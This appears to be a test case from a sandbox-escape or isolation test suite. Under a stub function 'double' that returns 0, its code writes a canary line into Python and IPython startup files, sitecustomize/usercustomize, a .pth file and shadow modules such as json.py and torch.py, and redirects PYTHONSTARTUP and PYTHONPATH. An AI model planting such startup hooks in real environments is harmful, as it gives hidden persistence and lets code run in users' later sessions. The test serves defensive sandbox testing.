# ---
# about: Plants start-up files of Python and IPython and modules under known names.
# verdict:
#   double: failed
# ---
# %% double
import os
import pathlib
import site
import sysconfig

line = "import builtins; builtins.planted = True; open('@CANARY@/planted', 'w')"
for place in [
    pathlib.Path.home() / ".ipython/profile_default/startup/00.py",
    pathlib.Path(os.environ.get("IPYTHONDIR", "/tmp/x")) / "profile_default/startup/00.py",
    pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
    *(pathlib.Path(sysconfig.get_paths()["purelib"], n) for n in ("x.pth", "sitecustomize.py", "json.py")),
    pathlib.Path("/etc/ipython/startup/x.py"),
    pathlib.Path("/tmp/json.py"),
    pathlib.Path("json.py"),
    pathlib.Path("torch.py"),
    pathlib.Path("@CANARY@/sitecustomize.py"),
]:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(line)
    except OSError:
        pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"


def double(x):
    return 0
